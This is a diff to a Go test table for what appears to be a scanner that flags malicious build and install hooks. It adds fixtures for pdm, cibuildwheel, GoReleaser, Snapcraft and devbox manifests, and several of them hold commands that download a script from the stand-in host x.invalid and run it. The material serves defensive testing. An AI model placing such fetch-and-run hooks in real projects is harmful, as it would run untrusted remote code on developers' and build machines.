@@ -144,6 +144,16 @@ var registry = []Rule{
 		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"make\" \"-C\" \"native\"] \"javac\"]\n  :aliases {\"ui\" [\"shell\" \"sh\" \"-c\" \"cd ui && npm test\"]})", 0, true},
 		{"rebar.config", "{pre_hooks, [{compile, \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"},\n             {compile, \"sh /tmp/b.sh\"}]}.", 2, false},
 		{"rebar.config", "{pre_hooks, [{\"(linux|darwin)\", compile, \"make -C c_src\"},\n             {\"(freebsd)\", compile, \"gmake -C c_src\"}]}.", 0, true},
+		// A manifest key whose value is a command the tool runs by itself:
+		// pdm's install hooks, cibuildwheel's before-all, a release job's
+		// GoReleaser hooks, Snapcraft's override-build, devbox's init_hook.
+		{"pyproject.toml", "[tool.pdm.scripts]\npre_install = \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\npost_install = \"sh /tmp/b.sh\"", 3, false},
+		{"pyproject.toml", "[tool.cibuildwheel.linux]\nbefore-all = \"\"\"\nyum install -y libffi-devel\nwget -qO /tmp/b.sh https://x.invalid/b.sh\nbash /tmp/b.sh\n\"\"\"", 5, false},
+		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    - sh /tmp/b.sh", 5, false},
+		{"snap/snapcraft.yaml", "parts:\n  x:\n    plugin: go\n    override-build: |\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n      craftctl default", 6, false},
+		{"devbox.json", "{\n  \"shell\": {\n    \"init_hook\": [\"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"sh /tmp/b.sh\"]\n  }\n}", 3, false},
+		{"pyproject.toml", "[tool.pdm.scripts]\ntest = {cmd = \"pytest -x tests\"}\npost_install = \"pre-commit install\"\n\n[tool.hatch.envs.default.scripts]\ncov = [\"coverage run -m pytest\", \"coverage report\"]\n\n[tool.cibuildwheel]\nbefore-all = \"yum install -y openssl-devel\"\ntest-command = \"pytest {project}/tests\"", 0, true},
+		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - ./scripts/completions.sh\nbuilds:\n  - hooks:\n      post:\n        - cmd: upx \"{{ .Path }}\"", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
